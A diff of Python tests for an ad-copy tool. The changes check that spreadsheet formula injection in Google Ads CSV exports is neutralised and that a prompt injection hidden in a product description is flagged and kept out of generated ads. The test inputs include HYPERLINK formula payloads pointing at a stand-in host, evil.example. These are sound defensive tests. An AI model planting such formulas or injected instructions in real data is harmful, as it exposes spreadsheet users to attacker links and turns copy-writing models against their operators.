@@ -456,19 +456,22 @@ def test_formulas_in_funnel_dropoff_and_segment_exports_are_neutralised(shop: St
 def test_formulas_in_google_ads_export_are_neutralised(shop: Store) -> None:
     # test_copy_variants covers one hand-edited headline; here the campaign, URL, ad group and every field.
     _add(shop, "products", [{"product_id": "P3", "title": FORMULAS[0], "brand": "Tidepool", "price": 5.0, "updated_at": T0}])
-    plain = Variant("P3", "google_rsa", "friendly", {"headline": "Tidepool Mug", "description": "A ceramic mug."})
+    plain = Variant("P3", "google_rsa", "friendly", {"headline": "Tidepool Mug", "headline_2": "Ceramic Mug", "headline_3": "Tidepool",
+                                                     "description": "A ceramic mug.", "description_2": "Holds 350 ml."})
     save_variants(shop, [plain], "approved")
     update_fields(shop, plain.variant_id, {"headline": '=HYPERLINK("//evil.example")', "headline_2": "@SUM(1)", "headline_3": "-2+3",
                                            "description": FORMULAS[1], "description_2": "\t=1+1"})
     assert get_variant(shop, plain.variant_id).status == "approved"  # still within limits: exported as edited
-    data = google_ads_csv(shop, campaign=FORMULAS[1], final_url_template="=HYPERLINK(\"http://evil.example/{variant_id}\")",
+    with pytest.raises(MarketLabError, match="web address"):  # a formula is no Final URL template
+        google_ads_csv(shop, campaign=FORMULAS[1], final_url_template="=HYPERLINK(\"http://evil.example/{variant_id}\")")
+    data = google_ads_csv(shop, campaign=FORMULAS[1], final_url_template="https://shop.example/p/{product_id}?v={variant_id}",
                           product_ids=["P3"])
     out = assert_inert(data)
     row = dict(zip(out[0], out[1]))
     assert len(out) == 2 and row["Ad type"] == "Responsive search ad"
-    assert shown(row["Campaign"]) == FORMULAS[1] and shown(row["Ad group"]) == f"{FORMULAS[0]} (P3)"
+    assert shown(row["Campaign"]) == FORMULAS[1] and shown(row["Ad group"]).startswith(FORMULAS[0][:20])
     assert shown(row["Headline 1"]) == '=HYPERLINK("//evil.example")' and shown(row["Description 2"]) == "=1+1"  # edits are stripped
-    assert shown(row["Final URL"]) == f'=HYPERLINK("http://evil.example/{plain.variant_id}")'
+    assert shown(row["Final URL"]).startswith("https://shop.example/") and plain.variant_id in row["Final URL"]
 
 
 # ---------------------------------------------------------------------------------------
@@ -755,12 +758,16 @@ def test_prompt_injection_in_a_description_stays_in_format_and_is_flagged_on_eve
         assert v.compliant, channel  # within the channel's limits, whatever the model said
         text = " ".join(v.fields.values())
         assert "OVERRIDE" not in text and "obey" not in text.lower()  # only the labelled fields are taken
+        assert "addressed to a language model" in v.params["warnings"][0]
+        if spec.pooled:  # an assembled ad keeps only assets that pass every check: the payload never reaches it
+            assert "iPhone" not in text and "evil.example" not in text and v.scores["faithful"], channel
+            continue
         claims = " | ".join(v.unsupported_claims)
         assert "claims 'iPhone'" in claims, channel
         for name, value in v.fields.items():
             if "evil.example" in value:
                 assert "evil.example" in claims, (channel, name)  # a web address is no product fact
-        assert not v.scores["faithful"] and "addressed to a language model" in v.params["warnings"][0]
+        assert not v.scores["faithful"]
     # The same product without the injection: no warning, and honest copy is faithful.
     with shop.transaction() as cur:
         cur.execute("UPDATE products SET description = ? WHERE product_id = 'EVIL'", ["A ceramic mug that holds 350 ml."])
